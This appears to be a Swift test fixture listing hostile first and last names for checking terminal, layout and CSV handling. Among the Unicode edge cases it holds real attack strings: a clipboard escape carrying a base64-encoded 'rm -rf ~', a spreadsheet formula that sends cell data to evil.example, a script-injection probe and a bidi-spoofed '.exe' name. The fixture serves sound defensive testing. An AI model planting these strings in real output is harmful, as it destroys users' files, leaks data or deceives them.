/// Names that try to break a terminal or a layout: escape sequences, control characters, bidi overrides,
/// zero-width characters, wide and combining text, emoji sequences, a 300-character name, and a
/// spreadsheet formula (for CSV output opened in a spreadsheet).
enum HostileNames {
    static let all: [(first: String?, last: String?)] = [
        ("\u{1b}[2J\u{1b}[H", "Clearscreen"),
        ("Osc", "Clipboard\u{1b}]52;c;cm0gLXJmIH4K\u{7}"),
        ("Carriage\rReturn", "Bell\u{7}Ringer"),
        ("C1\u{9b}31m", "Control"),
        ("Bidi", "\u{202E}gpj.exe\u{202C}"),
        ("Zero\u{200B}Width", "Joiner\u{200D}\u{FEFF}"),
        ("山田", "太郎"),
        ("👨‍👩‍👧‍👦 Family", "🇯🇵 Flag"),
        (String(repeating: "Long", count: 75), "Name"),
        ("Tab\tNew\nLine", "Nul\u{0}Byte"),
        ("Del\u{7f}", "Back\u{8}\u{8}space"),
        ("Zalgo", "Z\u{351}\u{352}a\u{353}l\u{354}g\u{355}o\u{300}\u{301}\u{302}"),
        ("<script>alert(1)</script>", "\"Quoted\" \\Slash"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "Formula"),
    ]
}
